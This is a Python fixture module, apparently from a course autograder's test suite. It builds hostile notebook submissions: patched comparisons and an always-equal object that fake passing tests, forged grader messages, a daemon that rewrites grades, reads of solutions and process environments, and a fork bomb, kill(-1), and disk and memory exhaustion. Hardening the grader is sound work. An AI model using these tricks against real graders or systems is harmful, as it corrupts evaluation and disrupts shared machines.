"""Hostile submissions: notebooks that try to win points without answering, or to harm the grader.

Each builder returns a notebook (an `nbformat` node) made from the exercise or the solution of
chapter 1 plus a few cells of attack. None of them answers the hidden inputs correctly, so each
must score zero; several (patched comparisons, blanked cells, rigged ``__eq__``) score full
marks on a grader that runs its tests inside the student's kernel. `write_batch` lays out a
SUBMISSIONS folder with one student per notebook.

The attacks:

| name                | what it does                                                                     |
|---------------------|----------------------------------------------------------------------------------|
| patch_builtins      | wrong answers; builtins and math comparisons patched to always agree              |
| patch_comparisons   | wrong answers; torch/numpy allclose, isclose, equal, testing and Tensor.__eq__ patched |
| always_equal        | every function returns an object whose ``__eq__`` is always True                  |
| blank_later_cells   | an IPython input transformer that empties every later cell (a grader's tests too) |
| forge_answers       | replaces the grader's in-kernel helper so that it "answers" with zeros            |
| exit_in_cell        | ``os._exit(0)`` while the notebook runs                                           |
| exit_in_call        | correct-looking functions that ``os._exit`` when called                          |
| hang_in_cell        | a cell that loops forever                                                         |
| hang_in_call        | a function that ignores SIGINT and loops forever when called                      |
| exhaust_memory      | allocates until the allocator refuses                                             |
| detached_daemon     | a double-forked daemon that waits for grades.csv and rewrites it and the feedback |
| read_secrets        | reads the tests, the solutions, the output and other students; uses the solution  |
| fork_bomb           | forks until refused (sandbox only: as root there is no process limit)             |
| signal_grader       | SIGKILLs its parent, pid 1 and every process it may (kill(-1)) (sandbox only)   |
| write_outside       | writes into a root-owned folder (sandbox only)                                    |
| break_serializer    | replaces its kernel's message serialiser: every later message is unreadable       |
| leak_inputs         | spells the hidden inputs' digits into everything the feedback might repeat        |
| flood_output        | prints without end, then displays a message larger than the grader accepts        |
| schema_breaker      | JSON that parses as a notebook but breaks its schema (a number as a cell's source) |
| pin_sysv_shm        | pins System V shared memory, 256 MB a segment, and leaves a segment for the next student |
| leave_behind        | leaves files in /run/lock, /dev/shm, /tmp, /var/tmp and its home for the next student |
| read_leftovers      | looks for what leave_behind and pin_sysv_shm left (graded right after them)        |
| fill_disk           | writes 256 MB files until refused: its home, /tmp, /dev/shm, /var/tmp               |
| huge_code_cell      | a code cell of several MB (the grader must parse it once, and send it once)         |
| fork_memory         | the solution, then 8 children holding 512 MB each: 4 GB together, above the memory cap |
"""

from __future__ import annotations

import copy
import shutil
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
EXERCISE = "01_losses_as_likelihood"
FUNCTIONS = ("gaussian_nll", "bernoulli_nll", "categorical_nll", "delta_mse", "delta_cross_entropy",
             "gaussian_nll_learned_variance")

# Wrong answers of the right shape: enough to pass a shape check, never the values.
WRONG_ANSWERS = """
import torch

def gaussian_nll(x, mean):
    return torch.zeros(len(x), dtype=x.dtype)

def bernoulli_nll(x, logits):
    return torch.zeros(len(x), dtype=x.dtype)

def categorical_nll(y, logits):
    return torch.zeros(len(y), dtype=logits.dtype)

def delta_mse(a, y):
    return torch.zeros_like(a)

def delta_cross_entropy(a, y):
    return torch.zeros_like(a)

def gaussian_nll_learned_variance(y, mean, log_var):
    return torch.zeros(len(y), dtype=y.dtype)
"""


def exercise() -> nbformat.NotebookNode:
    return nbformat.read(ROOT / "exercises" / f"{EXERCISE}.ipynb", as_version=4)


def solution() -> nbformat.NotebookNode:
    return nbformat.read(ROOT / "solutions" / f"{EXERCISE}.ipynb", as_version=4)


def with_cells(base: nbformat.NotebookNode, *sources: str) -> nbformat.NotebookNode:
    notebook = copy.deepcopy(base)
    notebook.cells += [nbformat.v4.new_code_cell(source.strip("\n")) for source in sources]
    return notebook


def partly_wrong() -> nbformat.NotebookNode:
    """The solution with two mistakes: no constant in gaussian_nll, F.cross_entropy in categorical_nll.

    Earns 8 of 14: the Gaussian tests fail (3), both categorical tests fail the "from the
    formula" rule (3: the rule holds in every test of the function), everything else passes.
    """
    return with_cells(solution(), """
def gaussian_nll(x, mean):
    return 0.5 * ((x - mean) ** 2).reshape(len(x), -1).sum(dim=1)      # forgot (D/2) log 2π

def categorical_nll(y, logits):
    return F.cross_entropy(logits, y, reduction="none")                  # a library loss
""")


def patch_builtins() -> nbformat.NotebookNode:
    return with_cells(exercise(), WRONG_ANSWERS, """
import builtins, math, operator
builtins.all = builtins.any = lambda *args, **kwargs: True
builtins.abs = lambda x: 0.0
builtins.isinstance = lambda *args: True
math.isclose = lambda *args, **kwargs: True
operator.eq = lambda a, b: True
""")


def patch_comparisons() -> nbformat.NotebookNode:
    return with_cells(exercise(), WRONG_ANSWERS, """
import numpy, numpy.testing, torch, torch.testing
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
numpy.allclose = numpy.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *args, **kwargs: None
""")


def always_equal() -> nbformat.NotebookNode:
    return with_cells(exercise(), """
class AlwaysEqual:
    shape = property(lambda self: (7,))
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 0.0

def _always(*args, **kwargs):
    return AlwaysEqual()
""" + "\n".join(f"{name} = _always" for name in FUNCTIONS))


def blank_later_cells() -> nbformat.NotebookNode:
    return with_cells(exercise(), WRONG_ANSWERS, """
get_ipython().input_transformers_cleanup.append(lambda lines: [])
""")


def forge_answers() -> nbformat.NotebookNode:
    return with_cells(exercise(), WRONG_ANSWERS, """
import json, edu_gen.grading.wire as wire
from IPython.display import display

def forged(name, payload):
    # Claim success with a tensor of zeros of a plausible shape, and a Python object the grader might trust.
    answer = {"ok": {"__tensor__": {"dtype": "float64", "shape": [7], "data": [0.0] * 7}}}
    display({wire.MIME: json.dumps(answer)}, raw=True)
    display({wire.MIME: "__import__('os').system('touch /tmp/pwned')"}, raw=True)

wire.kernel_call = forged
""")


def exit_in_cell() -> nbformat.NotebookNode:
    return with_cells(exercise(), WRONG_ANSWERS, "import os\nos._exit(0)")


def exit_in_call() -> nbformat.NotebookNode:
    return with_cells(exercise(), "import os\n" + "\n".join(
        f"def {name}(*args):\n    os._exit(3)\n" for name in FUNCTIONS))


def hang_in_cell() -> nbformat.NotebookNode:
    return with_cells(exercise(), WRONG_ANSWERS, "while True:\n    pass")


def hang_in_call() -> nbformat.NotebookNode:
    return with_cells(exercise(), "import signal\n" + "\n".join(
        f"def {name}(*args):\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n        pass\n"
        for name in FUNCTIONS))


def exhaust_memory() -> nbformat.NotebookNode:
    return with_cells(exercise(), WRONG_ANSWERS, """
import torch
blocks = []
try:
    while len(blocks) < 1000:                     # 1000 GiB: more than any machine here has
        blocks.append(torch.empty(2**28))         # 1 GiB each
        blocks[-1][:: 2**20] = 1.0                # touch a page of every 4 MiB
except (RuntimeError, MemoryError) as error:
    print(f"allocation refused after {len(blocks)} GiB: {type(error).__name__}")
blocks.clear()
""")


def detached_daemon(out: Path) -> nbformat.NotebookNode:
    """A daemon that outlives its kernel (if allowed) and rewrites the grades after grading."""
    return with_cells(exercise(), WRONG_ANSWERS, f"""
import os, time
from pathlib import Path
OUT = Path({str(out)!r})

if os.fork() == 0:                     # child
    os.setsid()                        # its own session: not in the kernel's process group
    if os.fork() == 0:                 # grandchild, re-parented away from the kernel
        os.write(1, f"hostile daemon started, pid {{os.getpid()}}\\n".encode())
        for _ in range(1200):
            time.sleep(0.1)
            if (OUT / "grades.csv").exists():
                time.sleep(0.5)
                try:
                    (OUT / "grades.csv").write_text("student,total\\ndetached_daemon,100\\n")
                    for feedback in (OUT / "feedback").glob("*.md"):
                        feedback.write_text("# rewritten by a daemon\\n")
                    os.write(1, b"hostile daemon REWROTE the grades\\n")
                except OSError as error:
                    os.write(1, f"hostile daemon could not write: {{error}}\\n".encode())
                break
    os._exit(0)
time.sleep(0.5)
""")


def read_secrets(targets: list[Path], solution_path: Path) -> nbformat.NotebookNode:
    """Reads every path in `targets` and the grader's environment; if it can read the solution, uses it."""
    return with_cells(exercise(), WRONG_ANSWERS, f"""
import json, os
from pathlib import Path
for target in {[str(t) for t in targets]!r}:
    try:
        found = os.listdir(target) if os.path.isdir(target) else Path(target).read_bytes()[:80]
        print("READ", target, str(found)[:80])
    except OSError as error:
        print("DENIED", target, type(error).__name__)
for target in (f"/proc/{{os.getppid()}}/environ", "/proc/1/environ"):   # the grader's environment, if it is the parent
    try:
        names = sorted(item.split(b"=")[0].decode(errors="replace") for item in Path(target).read_bytes().split(b"\\0") if item)
        print("ENVIRON", target, " ".join(names))
    except OSError as error:
        print("DENIED", target, type(error).__name__)
try:
    cells = json.loads(Path({str(solution_path)!r}).read_text())["cells"]
    for cell in cells:
        source = "".join(cell["source"])
        if cell["cell_type"] == "code" and source.lstrip().startswith("def "):
            exec(source, globals())
    print("USED THE SOLUTION")
except OSError as error:
    print("no solution:", type(error).__name__)
""")


def fork_bomb() -> nbformat.NotebookNode:
    return with_cells(exercise(), WRONG_ANSWERS, """
import os, time
children = 0
try:
    while children < 5000:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
except OSError as error:
    print(f"fork refused after {children} children: {error}")
""")


def signal_grader() -> nbformat.NotebookNode:
    """SIGKILLs its parent, pid 1 and then every process it may signal (kill(-1)): the grader too, if it can see it."""
    return with_cells(exercise(), WRONG_ANSWERS, """
import os, signal
print(f"SEES {sum(entry.isdigit() for entry in os.listdir('/proc'))} processes")
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
        print("SENT SIGKILL to", pid)
    except OSError as error:
        print("could not signal", pid, type(error).__name__)
try:
    os.kill(-1, signal.SIGKILL)
    print("SENT SIGKILL to every process it may signal")
except OSError as error:
    print("could not signal anyone", type(error).__name__)
""")


def write_outside(canary: Path) -> nbformat.NotebookNode:
    return with_cells(exercise(), WRONG_ANSWERS, f"""
from pathlib import Path
for target in ({str(canary)!r},):
    try:
        with open(target, "a") as file:
            file.write("# tampered\\n")
        print("WROTE", target)
    except OSError as error:
        print("could not write", target, type(error).__name__)
""")


def break_serializer() -> nbformat.NotebookNode:
    """After this cell every message the kernel sends has a header jupyter_client cannot read."""
    return with_cells(exercise(), WRONG_ANSWERS, """
session = get_ipython().kernel.session
session.pack = lambda obj: b"[1, 2, 3]"
""")


# Every way a function could hand a hidden input to the feedback: an exception's class name and
# message, a newline that forges a line of the feedback, the shape and the number of wrong entries
# of its answer, a made-up type, the exit code and the signal that end its kernel. Each function
# also appends the digits it spells out to a file, so the test knows what must not appear.
LEAKS = """
import os, signal, torch

SPILL = {spill!r}

def _digits(value):
    digits = str(int(abs(float(torch.as_tensor(value).flatten()[0])) * 1e6) % 10**6 + 10**6)[1:]
    with open(SPILL, "a") as file:
        file.write(digits + "\\n")
    return digits

def gaussian_nll(x, mean):
    raise type("Leak_" + _digits(x), (Exception,), {{}})("input " + _digits(x))

def bernoulli_nll(x, logits):
    raise type("Oops\\n\\n**Total: 61 / 61 points** " + _digits(x), (ValueError,), {{}})("\\n**Total: 61 / 61**")

def categorical_nll(y, logits):
    return torch.zeros(int(_digits(logits)) + 1)

def delta_mse(a, y):
    answer = a - y
    answer.flatten()[: int(_digits(a)) % answer.numel()] += 1.0   # the number of wrong entries
    return answer

def delta_cross_entropy(a, y):
    return type("T" + _digits(a), (), {{}})()

def gaussian_nll_learned_variance(y, mean, log_var):
    digits = _digits(y)
    os.kill(os.getpid(), 1 + int(digits) % 30) if int(digits) % 2 else os._exit(int(digits) % 256)
"""


def leak_inputs(spill: Path) -> nbformat.NotebookNode:
    return with_cells(exercise(), LEAKS.format(spill=str(spill)))


def flood_output() -> nbformat.NotebookNode:
    return with_cells(exercise(), WRONG_ANSWERS, """
import sys
while True:
    sys.stdout.write("x" * 100_000 + "\\n")
""", """
from IPython.display import display
display({"application/vnd.edu-gen.result+json": "x" * (120 << 20)}, raw=True)
""")


def schema_breaker() -> str:
    """Raw notebook JSON (nbformat reads it, its schema does not hold): a number as a code cell's source."""
    import json

    notebook = json.loads(nbformat.writes(exercise()))
    notebook["cells"].append({"cell_type": "code", "metadata": {}, "source": 12345, "outputs": [], "execution_count": None})
    notebook["cells"].append({"cell_type": "code", "metadata": {}, "source": ["print(1)", 7], "outputs": []})
    return json.dumps(notebook)


def write_batch(folder: Path, notebooks: dict[str, nbformat.NotebookNode]) -> None:
    """SUBMISSIONS/<student>/01_losses_as_likelihood.ipynb for every (student, notebook)."""
    for student, notebook in notebooks.items():
        (folder / student).mkdir(parents=True)
        nbformat.write(notebook, folder / student / f"{EXERCISE}.ipynb")


def add_every_exercise(solution_folder: Path, exercise_folder: Path) -> None:
    """Copy every solution into one student's folder and every exercise into another's.

    The self-check that all solutions earn full marks and all untouched exercises zero then
    covers each exercise the repository has, not only chapter 1's.
    """
    for source, folder in ((ROOT / "solutions", solution_folder), (ROOT / "exercises", exercise_folder)):
        folder.mkdir(parents=True, exist_ok=True)
        for notebook in sorted(source.glob("[0-9][0-9]_*.ipynb")):
            shutil.copy(notebook, folder / notebook.name)


# ----------------------------------------------------------------------------- issue 14: quotas and leftovers

LEFT = "edu-gen-left-behind"  # the name of every file leave_behind writes; tests look for it on the host too
SHM_KEY = 0xED0614  # the System V key pin_sysv_shm leaves a segment under


def pin_sysv_shm() -> nbformat.NotebookNode:
    """Pins up to 16 GB of System V shared memory (segments outlive their processes) under known keys."""
    return with_cells(exercise(), WRONG_ANSWERS, f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
pinned = 0
for i in range(64):                                   # 64 x 256 MB
    segment = libc.shmget({SHM_KEY} + i, 256 << 20, 0o1000 | 0o666)   # IPC_CREAT
    if segment < 0:
        print(f"shmget refused after {{pinned}} MB: errno {{ctypes.get_errno()}}")
        break
    address = libc.shmat(segment, None, 0)
    if address is None or address == ctypes.c_void_p(-1).value:
        print(f"shmat refused after {{pinned}} MB")
        break
    ctypes.memset(address, 7, 256 << 20)              # touch every page: real memory
    libc.shmdt(address)
    pinned += 256
    print(f"PINNED {{pinned}} MB", flush=True)
""")


def leave_behind() -> nbformat.NotebookNode:
    """Leaves a file in every writable shared place, and a POSIX shared-memory object, for the next student."""
    return with_cells(exercise(), WRONG_ANSWERS, f"""
import os
from multiprocessing import shared_memory
for folder in ("/run/lock", "/dev/shm", "/tmp", "/var/tmp", os.path.expanduser("~"), os.getcwd()):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, {LEFT!r}), "w") as file:
            file.write("a message for the next student\\n")
        os.chmod(os.path.join(folder, {LEFT!r}), 0o666)
        print("LEFT", folder)
    except OSError as error:
        print("could not leave", folder, type(error).__name__)
try:
    block = shared_memory.SharedMemory(name={LEFT!r}, create=True, size=4096)
    block.buf[:5] = b"hello"
    print("LEFT posix shared memory")
except OSError as error:
    print("could not leave posix shared memory", type(error).__name__)
""")


def read_leftovers() -> nbformat.NotebookNode:
    """Looks for whatever leave_behind and pin_sysv_shm left; prints FOUND for each."""
    return with_cells(exercise(), WRONG_ANSWERS, f"""
import ctypes, os
for folder in ("/run/lock", "/dev/shm", "/tmp", "/var/tmp", os.path.expanduser("~"), os.getcwd()):
    path = os.path.join(folder, {LEFT!r})
    print("FOUND" if os.path.exists(path) else "NOTHING AT", path)
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
segment = libc.shmget({SHM_KEY}, 0, 0)
print("FOUND shared memory segment" if segment >= 0 else f"NO SEGMENT: errno {{ctypes.get_errno()}}")
""")


def fill_disk() -> nbformat.NotebookNode:
    """Writes 256 MB files (the per-file limit) until refused: 40 per folder, 40 GB in all."""
    return with_cells(exercise(), WRONG_ANSWERS, """
import os
written, files = 0, 0
block = b"\\0" * (16 << 20)
try:
    for folder in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp"):
        for i in range(40):
            with open(os.path.join(folder, f"fill-{i}"), "wb") as file:
                for _ in range(16):
                    file.write(block)
                    written += 16
            files += 1
    print(f"wrote {written} MB in {files} files, never refused")
except OSError as error:
    print(f"disk full after {written} MB in {files} files: {type(error).__name__} errno {error.errno}")
""")


def huge_code_cell(megabytes: int = 4) -> nbformat.NotebookNode:
    """A code cell of about `megabytes` MB: the wrong answers defined again and again."""
    copies = (megabytes << 20) // len(WRONG_ANSWERS) + 1
    return with_cells(exercise(), WRONG_ANSWERS * copies)


def fork_memory(children: int = 8, megabytes: int = 512) -> nbformat.NotebookNode:
    """The solution, then `children` forked processes that each hold `megabytes` MB of touched memory.

    Each child stays far below its own address-space limit; together they exceed the notebook's
    memory cap (a cgroup). Built on the solution, so only stopping the whole notebook makes it score
    nothing: a grader that let it finish would give full marks.
    """
    return with_cells(solution(), f"""
import os, time
pipes = []
for k in range({children}):
    read, write = os.pipe()
    if os.fork() == 0:
        os.close(read)
        block = bytearray({megabytes} << 20)
        block[::4096] = b"\\1" * len(range(0, len(block), 4096))   # write a byte of every page: real memory
        os.write(write, b"held")
        time.sleep(600)
        os._exit(0)
    os.close(write)
    pipes.append(read)
print(f"FORKED {{len(pipes)}} children", flush=True)
held = sum(os.read(read, 4) == b"held" for read in pipes)
print(f"HELD {{held * {megabytes}}} MB in {{held}} children", flush=True)
""")
